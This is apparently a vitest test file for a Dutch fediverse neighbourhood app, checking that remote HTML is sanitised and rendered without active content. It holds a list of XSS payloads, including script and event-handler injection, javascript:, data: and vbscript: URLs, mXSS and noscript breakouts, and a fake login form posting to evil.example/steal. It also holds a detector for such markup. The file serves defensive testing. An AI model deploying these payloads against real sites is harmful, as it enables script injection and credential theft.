/**
 * Remote content can never inject markup or scripts: the sanitiser's
 * allow-list on its own, and — what matters — the real pages rendering a
 * hostile remote actor and post stored in a test buurt, read back with a
 * browser-grade HTML parser (parse5).
 */
import { afterEach, describe, expect, it } from "vitest";
import { newId, nowIso } from "../../src/domain/ids.ts";
import { plainText, safeUrl, sanitizeHtml } from "../../src/web/sanitize.ts";
import { startTestBuurt, type TestBuurt } from "../helpers/buurt.ts";
import { allElements, attr, descendants, headings1, select, textOf } from "../helpers/html.ts";
import { announceByGroup, storeAcceptedFollow, storeRemoteActor, storeRemotePost } from "../helpers/remote.ts";
import { loginAs, visitor } from "../helpers/web.ts";

const UGC = "nofollow noopener ugc";

/** Content a hostile (or broken) server could send. */
const HOSTILE_CONTENT = [
  "<p>Hallo buren<script>alert('content-script')</script></p>",
  "<p><img src=x onerror=alert('content-img')>plaatje</p>",
  "<p onclick=\"alert('content-onclick')\" style=\"position:fixed;top:0\">gestyled</p>",
  "<a href=\"javascript:alert('content-js')\">js-link</a>",
  "<a href=\"JaVaScRiPt&#x3A;alert('content-js2')\">js-link-2</a>",
  "<a href=\"java&#x09;script:alert('content-js3')\">js-link-3</a>",
  "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data-link</a>",
  "<a href=\"vbscript:msgbox('content-vb')\">vb-link</a>",
  "<a href=\"/logout\">relatieve-link</a>",
  "<a href=\"https://ok.example/pad\" target=\"_self\" onmouseover=\"alert('content-hover')\">goede-link</a>",
  "<iframe src=\"https://evil.example/frame\">frame-tekst</iframe>",
  "<svg onload=\"alert('content-svg')\"><script>alert('svg-script')</script><a xlink:href=\"javascript:alert(1)\"><text>svg-tekst</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>",
  "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
  "<base href=\"https://evil.example/\">",
  "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
  "<style>body{display:none}</style>",
  "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\"><button>Inloggen bij de buurt</button></form>",
  "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
  // Malformed HTML: unclosed tags, a broken attribute, and Gancio's "…/a>".
  "<p>Excepteur ut, Proident/a>",
  "<p><b>vet <i>schuin",
  "<a href=\"https://ok.example/\" title=\"x\" \" onclick=alert('broken-attr') >kapot</a>",
  "<img src=\"x\" alt=\"\" \"\" onerror=\"alert('broken-img')\"",
].join("\n");

/**
 * Fails with a list of every active-content problem in a page: script-ish
 * elements, `<meta>` beyond charset/viewport, `<base>`, foreign forms,
 * event-handler or style attributes, `target`, dangerous URL schemes, and
 * links in remote content without `rel="nofollow noopener ugc"`.
 */
function problemsIn(html: string): string[] {
  const problems: string[] = [];
  const elements = allElements(html);
  const forbidden = new Set(["script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "base", "style", "template", "noscript"]);
  for (const el of elements) {
    const tag = el.tagName;
    // The layout's own house logo is the one SVG a page may have.
    if (forbidden.has(tag) && !(tag === "svg" && attr(el, "class") === "site-logo")) problems.push(`<${tag}> element`);
    if (tag === "meta" && attr(el, "charset") == null && attr(el, "name") !== "viewport") {
      problems.push(`<meta ${el.attrs.map((a) => a.name).join(" ")}>`);
    }
    if (tag === "link" && !((attr(el, "href") ?? "").startsWith("/") || attr(el, "rel") === "alternate")) {
      problems.push(`<link href=${attr(el, "href")}>`);
    }
    if (tag === "form" && !(attr(el, "action") ?? "").startsWith("/")) problems.push(`<form action=${attr(el, "action")}>`);
    if (tag === "input" && ["password", "pw"].includes(attr(el, "name") ?? "")) problems.push("smuggled password input");
    for (const { name, value } of el.attrs) {
      if (name.startsWith("on")) problems.push(`${tag}[${name}]`);
      if (["style", "srcdoc", "formaction", "target", "xlink:href"].includes(name)) problems.push(`${tag}[${name}]`);
      if (["href", "src", "action", "poster", "data", "cite"].includes(name)) {
        const v = value.trim().toLowerCase().replace(/[\u0000-\u0020]/g, "");
        if (!/^(\/|#|\?|https?:|mailto:|xmpp:|gemini:|matrix:)/.test(v)) problems.push(`${tag}[${name}=${value}]`);
        if (v.startsWith("//")) problems.push(`${tag}[${name}=${value}] (protocol-relative)`);
      }
    }
  }
  // Links inside remote content carry rel="nofollow noopener ugc".
  const remoteContainers = elements.filter((el) => {
    const cls = (attr(el, "class") ?? "").split(/\s+/);
    return cls.includes("post-content") || cls.includes("profile-summary") || (el.tagName === "dd" && el.parentNode != null);
  });
  for (const container of remoteContainers) {
    for (const a of descendants(container).filter((d) => d.tagName === "a")) {
      if (attr(a, "rel") !== UGC) problems.push(`link ${attr(a, "href")} without rel="${UGC}"`);
    }
  }
  return problems;
}

describe("sanitizeHtml", () => {
  it("keeps formatting, links and Mastodon's mention/hashtag markup", () => {
    const mastodon = '<p>Hoi <span class="h-card"><a href="https://m.example/@a" class="u-url mention">@<span>a</span></a></span> ' +
      '<a href="https://m.example/tags/buurt" class="mention hashtag" rel="tag">#<span>buurt</span></a> ' +
      '<a href="https://example.org/lang/pad"><span class="invisible">https://</span><span class="ellipsis">example.org/lang</span><span class="invisible">/pad</span></a></p>';
    expect(sanitizeHtml(mastodon)).toBe(
      '<p>Hoi <span class="h-card"><a href="https://m.example/@a" class="u-url mention" rel="nofollow noopener ugc">@<span>a</span></a></span> ' +
        '<a href="https://m.example/tags/buurt" class="mention hashtag" rel="nofollow noopener ugc">#<span>buurt</span></a> ' +
        '<a href="https://example.org/lang/pad" rel="nofollow noopener ugc"><span class="invisible">https://</span><span class="ellipsis">example.org/lang</span><span class="invisible">/pad</span></a></p>',
    );
    expect(sanitizeHtml("<p>een<br>twee</p><ul><li><strong>vet</strong> <em>schuin</em></li></ul><blockquote>citaat</blockquote>"))
      .toBe("<p>een<br />twee</p><ul><li><strong>vet</strong> <em>schuin</em></li></ul><blockquote>citaat</blockquote>");
    expect(sanitizeHtml('<a href="mailto:buurt@example.org">mail</a>')).toBe(
      '<a href="mailto:buurt@example.org" rel="nofollow noopener ugc">mail</a>',
    );
  });

  it("removes scripts, handlers, styles, frames, forms, meta, base and bad URL schemes", () => {
    const clean = sanitizeHtml(HOSTILE_CONTENT);
    const problems = problemsIn(`<div class="post-content">${clean}</div>`);
    expect(problems).toEqual([]);
    expect(clean).not.toMatch(/alert|<script|<iframe|<svg|<math|<meta|<base|<form|<input|<style|<link|<object|<embed|style=|onerror|onclick|javascript|vbscript|data:/i);
    // What is text stays as text.
    expect(clean).toContain("Hallo buren");
    expect(clean).toContain("Excepteur ut, Proident/a&gt;");
    // Unclosed tags are closed at the end.
    expect(clean).toContain("<b>vet <i>schuin");
    expect(clean.trimEnd().endsWith("</i></b></p>")).toBe(true);
    // A broken attribute does not leak into a handler.
    expect(clean).toContain('<a href="https://ok.example/" title="x" rel="nofollow noopener ugc">kapot</a>');
    expect(clean).toContain('<a href="https://ok.example/pad" rel="nofollow noopener ugc">goede-link</a>');
    // Links with bad or relative URLs keep their text, lose their href.
    expect(clean).toContain('<a rel="nofollow noopener ugc">js-link</a>');
    expect(clean).toContain('<a rel="nofollow noopener ugc">relatieve-link</a>');
    expect(clean).not.toContain("frame-tekst");
  });

  it("reduces names, content warnings and alt texts to text, and lets only http(s) URLs into src and href", () => {
    expect(plainText('<p>Let op: <b>spoiler</b><script>alert(1)</script></p><p>twee &amp; drie</p>')).toBe(
      "Let op: spoiler twee & drie",
    );
    expect(plainText("<p>Excepteur ut, Proident/a>")).toBe("Excepteur ut, Proident/a>");
    expect(plainText("   ")).toBeNull();
    expect(safeUrl("https://ok.example/a.png")).toBe("https://ok.example/a.png");
    for (const bad of ["javascript:alert(1)", " JAVASCRIPT:alert(1)", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:x", "//evil.example/x", "/relative", "ftp://x.example/"]) {
      expect(safeUrl(bad)).toBeNull();
    }
  });
});

describe("hostile remote content on the real pages", () => {
  const started: TestBuurt[] = [];
  afterEach(async () => {
    for (const s of started.splice(0)) await s.stop();
  });

  it("renders a hostile remote actor and post without any active content", async () => {
    const b = await startTestBuurt({ name: "Buurt Oost" });
    started.push(b);
    const anna = await b.member("anna", "Anna");
    const carol = await b.member("carol", "Carol");
    await b.buurt.app.repos.actors.updateLocalProfile(carol.actorId, { manuallyApprovesFollowers: true });

    const hostileName = "<img src=x onerror=alert('name')>Eve<script>alert('name2')</script> :blobcat:";
    const eve = await storeRemoteActor(b.buurt, "eve", "evil.example", {
      name: hostileName,
      summary: `<p>Over mij</p>${HOSTILE_CONTENT}`,
      fields: [
        { name: "<b onmouseover=alert('fieldname')>Site</b><script>alert('f')</script>", value: '<a href="vbscript:msgbox(1)">vb</a> <a href="https://evil.example/ok" onclick="alert(1)">ok</a>' },
        { name: "Web", value: '<a href="javascript:alert(1)">js</a><iframe src="https://evil.example"></iframe>' },
      ],
      iconUrl: "javascript:alert('avatar')",
      url: "javascript:alert('profile-url')",
    });
    const evilPost = await storeRemotePost(b.buurt, eve, {
      contentHtml: HOSTILE_CONTENT,
      summary: "<script>alert('cw')</script>Let op <b>spoiler</b>",
      name: "<img src=x onerror=alert('title')>Titel",
      language: "nl\" onmouseover=\"alert('lang')",
      attachments: [
        { url: "javascript:alert('attachment')", mediaType: "image/png", description: "<script>alert('alt')</script>plaatje", width: null, height: null },
        { url: "https://evil.example/a.png", mediaType: "image/png", description: "\" onerror=\"alert('alt2')", width: null, height: null },
        { url: "data:text/html,<script>alert('data')</script>", mediaType: "text/html", description: "bijlage", width: null, height: null },
      ],
    });
    await announceByGroup(b.buurt, evilPost);
    // eve follows anna (followers list) and asks to follow carol (requests page); anna follows eve (home).
    for (const [following, status] of [[anna.actorId, "accepted"], [carol.actorId, "pending"]] as const) {
      await b.buurt.app.repos.follows.create({
        id: newId(),
        iri: `${eve.iri}#follow-${following}`,
        followerId: eve.id,
        followingId: following,
        status,
        createdAt: nowIso(),
        acceptedAt: status === "accepted" ? nowIso() : null,
      });
    }
    await storeAcceptedFollow(b.buurt, {
      iri: `${b.buurt.app.iris.actor("anna")}#follows/eve`,
      followerId: anna.actorId,
      followingId: eve.id,
    });

    const annaClient = await loginAs(b.buurt, "anna");
    const carolClient = await loginAs(b.buurt, "carol");
    const pages: Array<[string, string]> = [
      ["/ (visitor)", await (await visitor(b.buurt).get("/")).text()],
      ["/ (member)", await (await annaClient.get("/")).text()],
      ["/home", await (await annaClient.get("/home")).text()],
      ["/@eve@evil.example", await (await visitor(b.buurt).get("/@eve@evil.example")).text()],
      [`/actors/${eve.id}`, await (await annaClient.get(`/actors/${eve.id}`)).text()],
      ["/@anna/followers", await (await annaClient.get("/@anna/followers")).text()],
      ["/follow-requests", await (await carolClient.get("/follow-requests")).text()],
    ];
    const postPage = await visitor(b.buurt).get(`/posts/${evilPost.id}`);
    if (postPage.status === 200) pages.push([`/posts/${evilPost.id}`, await postPage.text()]);

    for (const [path, html] of pages) {
      expect({ path, problems: problemsIn(html) }).toEqual({ path, problems: [] });
      // The name is shown, as text.
      expect(select(html, "a").some((a) => textOf(a) === hostileName) || select(html, "h1").some((h) => textOf(h) === hostileName), path)
        .toBe(true);
      expect(html, path).not.toContain("<img src=x");
      expect(html, path).not.toContain("<img src=\"x\"");
      // The page title is intact (nothing broke out of <title>).
      expect(select(html, "title")).toHaveLength(1);
    }

    // Where the post shows: content cleaned but readable, CW/title/alt as text, bad attachments dropped.
    const timeline = pages[0]![1];
    const article = select(timeline, "article", "post").find((a) => textOf(a).includes("Hallo buren"))!;
    expect(textOf(article)).toContain("Excepteur ut, Proident/a>");
    expect(select(timeline, "summary").map(textOf)).toContain("Let op: Let op spoiler");
    expect(select(timeline, "p", "post-title").map(textOf)).toEqual(["Titel"]);
    const images = select(timeline, "img");
    expect(images.map((i) => attr(i, "src"))).toEqual(["https://evil.example/a.png"]);
    expect(attr(images[0]!, "alt")).toBe("\" onerror=\"alert('alt2')");
    expect(attr(select(timeline, "div", "post-content")[0]!, "lang")).toBeNull();

    // The profile: bio and fields cleaned, avatar and "own server" link dropped (not http).
    const profile = pages[3]![1];
    expect(headings1(profile)).toEqual([textOf(select(profile, "h1")[0]!)]);
    expect(textOf(select(profile, "h1")[0]!)).toBe(hostileName);
    expect(select(profile, "div", "profile-summary").map(textOf)[0]).toContain("Over mij");
    expect(select(profile, "dt").map(textOf)).toEqual(["Site", "Web"]);
    expect(select(profile, "a").some((a) => textOf(a) === "Bekijk dit profiel op de eigen server")).toBe(false);
    expect(select(profile, "span", "avatar-placeholder").length).toBeGreaterThan(0);
  });
});
